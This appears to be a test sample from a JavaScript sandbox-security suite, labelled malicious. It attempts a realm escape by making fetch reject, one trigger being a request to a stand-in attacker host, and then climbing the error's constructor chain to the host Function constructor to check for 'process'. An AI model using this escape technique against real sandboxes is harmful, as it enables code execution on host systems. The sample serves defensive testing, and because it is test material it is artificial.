/*---
id: re-host-error-03-fetch-rejection
description: "Makes fetch reject with host-side errors (forbidden origin, bad arguments, throwing toString) and uses the rejection's constructor chain, the CVE-2026-47131 pattern with a Node ERR_INVALID_ARG_TYPE."
kind: malicious
category: realm-escape
technique: RE-host-error
variant: plain
references:
  - "vm2 #138"
  - "CVE-2026-47131 (Node ERR_INVALID_ARG_TYPE)"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
if (typeof fetch !== 'function') return 'held';
const args = ['https://attacker.example/', Symbol('u'), { toString() { throw new RangeError('x'); } }, 42];
for (const arg of args) {
  let e;
  try { await fetch(arg); continue; } catch (err) { e = err; }
  if (e === null || typeof e !== 'object') continue;
  try {
    if (e.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED';
  } catch (inner) {}
}
return 'held';
